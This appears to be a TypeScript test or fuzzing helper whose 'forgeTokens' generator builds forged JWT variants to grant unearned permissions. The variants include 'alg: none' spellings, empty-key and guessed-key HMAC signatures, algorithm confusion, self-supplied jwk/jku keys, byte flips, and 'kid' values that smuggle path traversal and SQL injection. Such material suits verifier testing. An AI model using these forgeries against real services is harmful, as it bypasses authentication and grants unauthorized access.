import { createHmac, generateKeyPairSync, sign } from 'node:crypto'

export type JsonObject = Record<string, unknown>

const encode = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url')
const decode = (part: string): JsonObject | null => {
  try {
    return JSON.parse(Buffer.from(part, 'base64url').toString()) as JsonObject
  } catch {
    return null
  }
}

/** What whoever holds a token can read of it: null where a part is no JSON, as of one that is encrypted. */
export function readParts(token: string): readonly (JsonObject | null)[] {
  return token.split('.').map(decode)
}

/** The claims of a token as a forger takes them up: what it says, or what one like it would. */
function claimsOf(token: string, wanted: JsonObject): JsonObject {
  const now = Math.floor(Date.now() / 1_000)
  return { iat: now, exp: now + 600, jti: 'forged', actions: ['read'], ...readParts(token)[1], ...wanted }
}

function hmac(
  hash: 'sha256' | 'sha384' | 'sha512',
  header: JsonObject,
  claims: JsonObject,
  key: string | Buffer,
): string {
  const signed = `${encode(header)}.${encode(claims)}`
  return `${signed}.${createHmac(hash, key).update(signed).digest('base64url')}`
}

export type Forged = { readonly how: string; readonly token: string }

/**
 * Every token that somebody can make of one that he was given and of all the words that he knows, each allowing what he
 * wants and was not given.
 */
export function* forgeTokens(token: string, words: ReadonlyMap<string, string>, wanted: JsonObject): Generator<Forged> {
  const [head = '', body = '', ...rest] = token.split('.')
  const header = decode(head) ?? { alg: 'HS256' }
  const claims = claimsOf(token, wanted)
  for (const alg of ['none', 'None', 'NONE', 'nOnE', '', 'HS256', 'dir', 'RS256']) {
    for (const signature of ['', rest.at(-1) ?? '', 'AA']) {
      yield {
        how: `alg ${alg}, signature "${signature.slice(0, 6)}"`,
        token: `${encode({ ...header, alg })}.${encode(claims)}.${signature}`,
      }
    }
  }
  yield { how: 'no header', token: `.${encode(claims)}.` }
  yield { how: 'no signature', token: `${head}.${body}` }
  yield { how: 'claims replaced', token: [head, encode(claims), ...rest].join('.') }
  for (const [what, word] of [['nothing', ''] as const, ...words]) {
    for (const [alg, hash] of [
      ['HS256', 'sha256'],
      ['HS384', 'sha384'],
      ['HS512', 'sha512'],
    ] as const) {
      yield { how: `${alg} keyed by ${what}`, token: hmac(hash, { ...header, alg }, claims, word) }
    }
    yield {
      how: `HS256 keyed by the bytes of ${what}`,
      token: hmac('sha256', { ...header, alg: 'HS256' }, claims, Buffer.from(word, 'base64url')),
    }
    yield { how: `kid ${what}`, token: hmac('sha256', { ...header, alg: 'HS256', kid: word }, claims, word) }
  }
  for (const kid of ['/dev/null', '../../../../dev/null', "' UNION SELECT 'x'--", '0', '__proto__', 'constructor']) {
    for (const key of ['', 'x', '\0']) {
      yield {
        how: `kid ${kid}, key ${JSON.stringify(key)}`,
        token: hmac('sha256', { ...header, alg: 'HS256', kid }, claims, key),
      }
    }
  }
  const own = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const jwk = own.publicKey.export({ format: 'jwk' })
  const secret = { kty: 'oct', k: Buffer.from('mine').toString('base64url') }
  const pointers = [
    { jwk },
    { jku: 'http://127.0.0.1:9/keys.json' },
    { x5u: 'http://127.0.0.1:9/cert.pem' },
    { x5c: ['AA'] },
    { jwk, kid: 'mine', crit: [] },
    { crit: ['exp'], exp: 1 },
    { b64: false, crit: ['b64'] },
  ]
  for (const pointer of pointers) {
    const signed = `${encode({ ...header, alg: 'ES256', ...pointer })}.${encode(claims)}`
    const signature = sign('sha256', Buffer.from(signed), { key: own.privateKey, dsaEncoding: 'ieee-p1363' })
    yield {
      how: `a key of his own by ${Object.keys(pointer).join(', ')}`,
      token: `${signed}.${signature.toString('base64url')}`,
    }
    yield {
      how: `a secret of his own by ${Object.keys(pointer).join(', ')}`,
      token: hmac('sha256', { ...header, alg: 'HS256', ...pointer, jwk: secret }, claims, 'mine'),
    }
  }
  // One byte of the signature, or of what is encrypted: whoever compares only a part takes it.
  for (const part of [0, 1, 2].filter(index => index < token.split('.').length)) {
    const parts = token.split('.')
    const text = parts[part] ?? ''
    const middle = Math.floor(text.length / 2)
    parts[part] = `${text.slice(0, middle)}${text[middle] === 'A' ? 'B' : 'A'}${text.slice(middle + 1)}`
    yield { how: `one letter of part ${part} changed`, token: parts.join('.') }
  }
  yield { how: 'a comma-separated pair', token: `${token},${token}` }
  yield {
    how: 'a JSON serialization',
    token: JSON.stringify({ protected: head, payload: encode(claims), signature: rest.at(-1) ?? '' }),
  }
}
